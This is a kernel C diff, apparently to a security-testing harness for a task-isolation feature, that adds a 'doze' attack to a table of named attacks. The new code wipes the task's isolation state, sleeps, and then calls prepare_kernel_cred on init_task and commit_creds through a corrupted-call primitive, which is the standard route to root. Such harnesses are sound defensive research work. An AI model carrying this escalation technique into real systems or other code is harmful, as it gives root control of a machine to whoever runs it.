@@ -21,6 +21,7 @@
  *                             isolated tasks (pointer), what it has of this task
  *                             (space), of its cgroup (domain), its map of hidden pages
  *                             (hidden); or this task's task_struct, with zeros (task)
+ *   doze                      overwrite this task's task_struct, sleep, then escalate
  *   unisolate                 take this task out of the directory
  *
  * and what is allowed:
@@ -507,6 +508,13 @@ static int locate_part(struct part *p, const char *what)
 	return prepare(find_part, p);
 }
 
+static void forget(void)
+{
+#ifdef CONFIG_CGROUP_SCI
+	memset(&current->sci, 0, sizeof(current->sci));
+#endif
+}
+
 static int attack_overwrite(int argc, char **argv, u64 *result)
 {
 	struct part p;
@@ -515,9 +523,7 @@ static int attack_overwrite(int argc, char **argv, u64 *result)
 	if (argc != 2)
 		return -EINVAL;
 	if (!strcmp(argv[1], "task")) {
-#ifdef CONFIG_CGROUP_SCI
-		memset(&current->sci, 0, sizeof(current->sci));
-#endif
+		forget();
 		return 0;
 	}
 	err = locate_part(&p, argv[1]);
@@ -525,6 +531,22 @@ static int attack_overwrite(int argc, char **argv, u64 *result)
 	if (!err && p.addr)
 		asm volatile("orq $0, %0" : "+m" (*(u64 *)p.addr));
 	return err;
+}
+
+/* Who comes back from the scheduler is put where it says. */
+static int attack_doze(int argc, char **argv, u64 *result)
+{
+	u64 cred;
+
+	/* The way there is in the view then: no fault sets anything right again. */
+	schedule_timeout_uninterruptible(1);
+	forget();
+	schedule_timeout_uninterruptible(1);
+	cred = corrupted_call(known.prepare_kernel_cred_body, (u64)&init_task);
+	if (!cred)
+		return -ENOMEM;
+	*result = corrupted_call(known.commit_creds_body, cred);
+	return 0;
 }
 
 static int attack_unisolate(int argc, char **argv, u64 *result)
@@ -550,6 +572,7 @@ const struct attack secret_attacks[] = {
 	{ "read-returned",	attack_read_returned },
 	{ "jop-user",		attack_jop_user },
 	{ "overwrite",		attack_overwrite },
+	{ "doze",		attack_doze },
 	{ "unisolate",		attack_unisolate },
 	{ }
 };
